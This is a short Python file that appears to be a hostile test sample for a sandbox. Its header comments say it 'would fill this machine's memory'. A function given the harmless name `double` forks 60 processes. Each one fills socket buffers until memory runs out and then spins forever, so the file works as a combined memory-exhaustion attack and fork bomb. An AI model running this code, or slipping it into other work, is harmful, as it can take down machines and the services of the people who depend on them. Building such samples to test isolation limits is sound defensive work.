# tries: all memory, as what waits in sockets, which belongs to no process
# seconds: 1
# harms: it would fill this machine's memory
# reaches: sockets|ended
import os
import socket


def fill():
    kept = []
    while True:
        try:
            ends = socket.socketpair()
        except OSError:
            return kept
        kept.append(ends)
        for end in ends:
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
            end.setblocking(False)
            try:
                while True:
                    end.send(bytes(2**16))
            except OSError:
                pass


def double(x):
    for _ in range(60):
        if os.fork() == 0:
            fill()
            while True:
                pass
    fill()
    raise ValueError("full sockets")
